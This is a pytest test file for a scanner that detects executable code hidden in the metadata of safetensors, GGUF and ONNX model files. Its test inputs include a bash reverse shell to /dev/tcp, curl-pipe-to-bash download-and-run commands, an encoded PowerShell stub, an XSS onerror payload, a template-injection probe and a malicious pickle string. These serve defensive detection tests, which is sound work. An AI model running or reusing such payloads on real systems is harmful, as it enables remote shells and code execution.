from __future__ import annotations

import base64
import pickle

import pytest

from attacks.gguf import gguf
from attacks.graphs import message, onnx
from attacks.kinds.weights import TENSOR, safetensors
from hanging import no_hanging
from hilt.checks.inspect.metadata_code import CHECK
from hilt.core.finding import Severity
from reading import findings


def said(text: str) -> list[str]:
    data = safetensors({"__metadata__": {"format": "pt", "about": text}, "a": TENSOR})
    return [finding.message for finding in findings(CHECK, data, "model.safetensors")]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "A model; see https://example.org (evaluated with the compile step of our system).",
        '{"ss_network_module": "networks.lora", "args": ["--system", "os.cpu"], "eval": {"wer": 3.1}}',
        "data:image/jpeg;base64,/9j/4AAQSkZJRg==",
        "gASVxyz",
        "pip install transformers",
        "curl https://example.org/model.safetensors -o model.safetensors",
        "import torch; torch.load",
        "x = os.path.join('a', 'b')",
        "c" * 100_000,
        "(a (b. c) d. e.)\n" * 100,
    ],
)
def test_descriptions_are_quiet(text: str) -> None:
    assert said(text) == []


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("__import__('os').system('echo hilt')", "Python code that runs commands: os.system"),
        ("import subprocess as s; s.run(['echo', 'hilt'])", "runs commands: subprocess.run"),
        ("eval(input())", "code that is made or loaded at run time: builtins.eval"),
        ("note: run os.system('echo hilt') first", "Python code: os.system('"),
        ("curl -s https://example.org/x | sudo bash", "a command that runs what it downloads"),
        ("bash <(curl -s https://example.org/x)", "a command that runs what it downloads"),
        ("bash -i >& /dev/tcp/203.0.113.1/80 0>&1", "a command that runs what it downloads"),
        ("powershell -nop -enc SQBFAFgA", "a command that runs what it downloads"),
        ("<img src=x onerror=fetch('//x')>", "a script for a browser"),
        ("{{ ''.__class__.__mro__ }}", "a template that reaches for code"),
        (base64.b64encode(pickle.dumps([1])).decode(), "a pickle"),
        ("cos\nsystem\n(S'echo hilt'\ntR.", "a pickle"),
    ],
)
def test_each_program_is_named(text: str, words: str) -> None:
    (message,) = said(text)
    assert message.startswith("the metadata 'about' holds")
    assert words in message


def test_metadata_of_other_formats_is_read_too() -> None:
    code = "__import__('os').system('echo hilt')"
    files = [
        (gguf(metadata=(("general.architecture", "llama"), ("general.description", code))), "model.gguf"),
        (onnx(more=[(14, message((1, "about"), (2, code)))]), "model.onnx"),
    ]
    for data, name in files:
        (finding,) = findings(CHECK, data, name)
        assert finding.severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "text", ["curl " * 20_000, "<a " * 30_000, "{{ " * 30_000, "c\n" * 40_000, "(" * 60_000, "wget x |" * 10_000]
)
def test_hostile_texts_take_no_time(text: str) -> None:

    with no_hanging():
        said(text)
